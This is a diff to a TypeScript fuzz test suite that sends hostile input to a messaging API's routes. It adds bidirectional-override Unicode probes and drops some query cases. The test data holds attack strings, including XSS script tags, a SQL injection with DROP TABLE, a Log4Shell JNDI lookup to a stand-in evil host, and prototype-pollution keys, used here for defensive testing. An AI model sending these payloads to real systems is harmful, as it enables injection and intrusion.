@@ -2,7 +2,7 @@ import { randomUUID } from 'node:crypto';
 import { asOwner } from '../../support/fixtures';
 import {
   badLimitQueries, badNumberQueries, BAD_IDS, BodyField, bodyProbes, BodyRoute, CANARY, CONTROL_STRINGS, encodeQuery, forgedAuthorizations, GENERIC_STRINGS,
-  HUGE, isString, Json, malformedBodyProbes, Method, ODD_NUMBERS, pollution, POLLUTING_QUERIES, Probe, prototypeNames, randomUnicode, refusals,
+  HUGE, isString, Json, malformedBodyProbes, Method, pollution, POLLUTING_QUERIES, Probe, prototypeNames, randomUnicode, refusals,
   Rng, stringField, withControlCharacter, WRONG_TYPES,
 } from '../../support/fuzz-kit';
 import { HttpAnswer, TestApi } from '../../support/identity';
@@ -142,8 +142,9 @@ function enumField(accepted: readonly string[]): BodyField {
 function messageBodyField(): BodyField {
   const blank = ['', ' ', '\n', '\t', '\n\t \n', '\u00a0', '\u3000', '\ufeff', '\u2028', ' \u00a0\u2003\u3000 '];
   const controlled = BODY_CONTROLS.map((control) => `a${control}b${CANARY}`);
+  const reordered = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].map((control) => `pay ${control}KCATTA${CANARY} now`);
   const tooLong = ['a'.repeat(MAX_BODY_CHARACTERS + 1), '🔥'.repeat(MAX_BODY_CHARACTERS + 1), 'e\u0301'.repeat(MAX_BODY_CHARACTERS / 2 + 1), HUGE];
-  return stringField(true, [...blank, ...controlled, ...tooLong, `\ud800${CANARY}`, `\udfff\ud800`, `${CANARY}\ud83d`, `line\r\nbreak${CANARY}`], (rng) => {
+  return stringField(true, [...blank, ...controlled, ...reordered, ...tooLong, `\ud800${CANARY}`, `\udfff\ud800`, `${CANARY}\ud83d`, `line\r\nbreak${CANARY}`], (rng) => {
     const text = anyString(rng);
     const at = rng.int(0, text.length);
     return `${text.slice(0, at)}${rng.pick(BODY_CONTROLS)}${text.slice(at)}`;
@@ -319,8 +320,6 @@ const BAD_SEQS: readonly string[] = [
   String(MAX_SEQ + 1), '99999999999999999999', '9'.repeat(99), '9'.repeat(101), '%00', '1%00', '%ED%A0%80', '%', '%ZZ', encodeURIComponent('１'),
   encodeURIComponent('١'), encodeURIComponent('²'), '__proto__', 'constructor', CANARY, `1${CANARY}`, '1;2', '1%2F2', encodeURIComponent(HUGE),
 ];
-/** A blank afterSeq reads as 0 (Number('') is 0), the same as none: lenient, but harmless, so only never a 5xx. */
-const BLANK_AFTER_SEQ: readonly string[] = ['afterSeq=', 'afterSeq=%20'];
 /** Well-formed seqs of no message: 404. */
 const MISSING_SEQS: readonly string[] = ['3', '999999', String(MAX_SEQ)];
 
@@ -340,7 +339,7 @@ const WELL_FORMED_EMOJI: readonly string[] = [
 const WELL_FORMED_BODIES: readonly string[] = [
   '**bold** _italic_ `code` ~~strike~~ [link](javascript:alert(1)) ![x](http://evil.test/x.png) <b>bold</b>',
   '<script>alert("zephyrine")</script><img src=x onerror=alert(1)>',
-  'مرحبا بالعالم \u202eevil.exe\u202c שלום \u200f\u200e',
+  'مرحبا بالعالم evil.exe שלום \u200f\u200e',
   '🔥💉👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇺🇦 1️⃣ ❤️ 👍🏽',
   'Robert\'); DROP TABLE message;-- \' OR \'1\'=\'1 /* */ UNION SELECT body_sealed FROM message',
   '${jndi:ldap://evil.test/a} {{7*7}} %00 %s %n \\u0000 \\x00 \\',
@@ -506,7 +505,7 @@ describe('messaging routes under hostile input', () => {
       'limit=1&limit=2', 'cursor=a&cursor=b', 'cursor[]=x', 'cursor[a]=x', 'limit[$gt]=1', 'limit=%ZZ', 'cursor=%', 'afterSeq=1',
     ];
     const messageQueries = [
-      ...badNumberQueries('afterSeq', 0, MAX_SEQ).filter((query) => !BLANK_AFTER_SEQ.includes(query)), ...badNumberQueries('beforeSeq', 1, MAX_SEQ), ...badLimitQueries(200), ...POLLUTING_QUERIES,
+      ...badNumberQueries('afterSeq', 0, MAX_SEQ), ...badNumberQueries('beforeSeq', 1, MAX_SEQ), ...badLimitQueries(200), ...POLLUTING_QUERIES,
       'afterSeq=1&afterSeq=2', 'beforeSeq[]=2', 'afterSeq[$gt]=0', 'limit[$gt]=1', 'cursor=x', 'q=x', 'afterSeq=%ZZ', `beforeSeq=${encodeQuery(HUGE)}`,
     ];
     const searchQueries = [
@@ -579,11 +578,9 @@ describe('messaging routes under hostile input', () => {
     }
     const handled = (status: number): boolean => status < 500;
     const oddQueries = [
-      ...ODD_NUMBERS.flatMap((value) => [`/v1/conversations?limit=${encodeQuery(value)}`, `/v1/conversations/${groupId}/messages?afterSeq=${encodeQuery(value)}`,
-        `/v1/conversations/${groupId}/messages?beforeSeq=${encodeQuery(value)}`, `/v1/search/messages?q=fuzz&limit=${encodeQuery(value)}`]),
       // an undecodable escape or lone surrogate stays as it is: a search for its letters
       ...[...GENERIC_STRINGS.filter((text) => text.length <= 200), ...WELL_FORMED_TITLES, 'a', 'ab', '🔥 abc', `\ud800${CANARY}`].map((q) => `/v1/search/messages?q=${encodeQuery(q)}`),
-      '/v1/search/messages?q=%E0%A4%A', ...BLANK_AFTER_SEQ.map((query) => `/v1/conversations/${groupId}/messages?${query}`),
+      '/v1/search/messages?q=%E0%A4%A',
       `/v1/conversations/${groupId}/messages?afterSeq=${MAX_SEQ}`, `/v1/conversations/${groupId}/messages?beforeSeq=${MAX_SEQ}`, `/v1/conversations/${groupId}/messages?afterSeq=5&beforeSeq=2`,
       `/v1/search/messages?q=fuzz&conversationId=${groupId.toUpperCase()}`,
     ];
